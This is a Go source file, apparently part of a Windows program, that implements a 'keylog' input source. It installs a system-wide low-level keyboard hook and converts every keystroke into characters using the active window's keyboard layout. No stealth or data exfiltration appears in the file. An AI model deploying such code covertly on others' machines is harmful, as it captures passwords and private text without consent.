//go:build windows

package keylog

import (
	"context"
	"fmt"
	"log/slog"
	"runtime"
	"sync"
	"time"
	"unicode/utf16"
	"unsafe"

	"golang.org/x/sys/windows"
)

var (
	user32 = windows.NewLazySystemDLL("user32.dll")

	procSetWindowsHookExW        = user32.NewProc("SetWindowsHookExW")
	procUnhookWindowsHookEx      = user32.NewProc("UnhookWindowsHookEx")
	procCallNextHookEx           = user32.NewProc("CallNextHookEx")
	procGetMessageW              = user32.NewProc("GetMessageW")
	procPostThreadMessageW       = user32.NewProc("PostThreadMessageW")
	procToUnicodeEx              = user32.NewProc("ToUnicodeEx")
	procGetKeyboardState         = user32.NewProc("GetKeyboardState")
	procGetForegroundWindow      = user32.NewProc("GetForegroundWindow")
	procGetWindowThreadProcessId = user32.NewProc("GetWindowThreadProcessId")
	procGetKeyboardLayout        = user32.NewProc("GetKeyboardLayout")
)

const (
	whKeyboardLL = 13
	hcAction     = 0
	wmKeydown    = 0x0100
	wmSyskeydown = 0x0104
	wmQuit       = 0x0012

	// Keeps ToUnicodeEx from consuming dead-key state of the focused app.
	toUnicodeNoStateChange = 0x4
)

type kbdllhookstruct struct {
	VkCode      uint32
	ScanCode    uint32
	Flags       uint32
	Time        uint32
	DwExtraInfo uintptr
}

type point struct {
	X, Y int32
}

type msg struct {
	Hwnd    uintptr
	Message uint32
	WParam  uintptr
	LParam  uintptr
	Time    uint32
	Pt      point
}

// HookSource installs a low-level keyboard hook on a dedicated, locked OS
// thread and translates key downs with the foreground window's layout.
type HookSource struct {
	mu       sync.Mutex
	threadID uint32
	done     chan struct{}
}

func NewPlatformSource() Source {
	return &HookSource{}
}

func (s *HookSource) Name() string { return "winhook" }

func (s *HookSource) Available() (bool, string) {
	if err := procSetWindowsHookExW.Find(); err != nil {
		return false, fmt.Sprintf("keyboard hook unavailable: %v", err)
	}

	return true, "low-level keyboard hook"
}

type hookStarted struct {
	threadID uint32
	err      error
}

func (s *HookSource) Start(ctx context.Context, q *Queue) error {
	s.mu.Lock()
	defer s.mu.Unlock()

	if s.done != nil {
		return ErrAlreadyRunning
	}

	started := make(chan hookStarted, 1)
	done := make(chan struct{})

	go s.loop(q, started, done)

	res := <-started
	if res.err != nil {
		<-done

		return res.err
	}

	s.threadID = res.threadID
	s.done = done

	go func() {
		select {
		case <-ctx.Done():
			if err := s.Stop(); err != nil {
				slog.WarnContext(ctx, "could not stop keyboard hook", "error", err)
			}
		case <-done:
		}
	}()

	return nil
}

func (s *HookSource) loop(q *Queue, started chan<- hookStarted, done chan struct{}) {
	defer close(done)

	// The hook is delivered to the thread that installed it, which must pump messages.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()

	cb := windows.NewCallback(func(nCode int, wParam uintptr, lParam uintptr) uintptr {
		if nCode == hcAction && (wParam == wmKeydown || wParam == wmSyskeydown) {
			kb := (*kbdllhookstruct)(unsafe.Pointer(lParam))
			vk, scan := kb.VkCode, kb.ScanCode

			guard("winhook", func() {
				if ch, ok := translateKey(vk, scan); ok {
					emit(q, ch, time.Now())
				}
			})
		}

		r, _, _ := procCallNextHookEx.Call(0, uintptr(nCode), wParam, lParam)

		return r
	})

	hook, _, err := procSetWindowsHookExW.Call(whKeyboardLL, cb, 0, 0)
	if hook == 0 {
		started <- hookStarted{err: fmt.Errorf("SetWindowsHookExW failed: %w", err)}

		return
	}

	defer procUnhookWindowsHookEx.Call(hook)

	started <- hookStarted{threadID: windows.GetCurrentThreadId()}

	var m msg

	for {
		r, _, _ := procGetMessageW.Call(uintptr(unsafe.Pointer(&m)), 0, 0, 0)
		if int32(r) <= 0 {
			return
		}
	}
}

// translateKey resolves a virtual key to the character the foreground
// window's keyboard layout would produce.
func translateKey(vk, scan uint32) (rune, bool) {
	fg, _, _ := procGetForegroundWindow.Call()
	tid, _, _ := procGetWindowThreadProcessId.Call(fg, 0)
	hkl, _, _ := procGetKeyboardLayout.Call(tid)

	var state [256]byte

	procGetKeyboardState.Call(uintptr(unsafe.Pointer(&state[0])))

	var buf [8]uint16

	n, _, _ := procToUnicodeEx.Call(
		uintptr(vk),
		uintptr(scan),
		uintptr(unsafe.Pointer(&state[0])),
		uintptr(unsafe.Pointer(&buf[0])),
		uintptr(len(buf)),
		toUnicodeNoStateChange,
		hkl,
	)

	count := int32(n)
	if count <= 0 {
		return 0, false
	}

	runes := utf16.Decode(buf[:count])
	if len(runes) == 0 {
		return 0, false
	}

	return runes[0], true
}

func (s *HookSource) Stop() error {
	s.mu.Lock()
	done, tid := s.done, s.threadID
	s.done = nil
	s.mu.Unlock()

	if done == nil {
		return nil
	}

	r, _, err := procPostThreadMessageW.Call(uintptr(tid), wmQuit, 0, 0)
	if r == 0 {
		return fmt.Errorf("PostThreadMessageW failed: %w", err)
	}

	<-done

	return nil
}
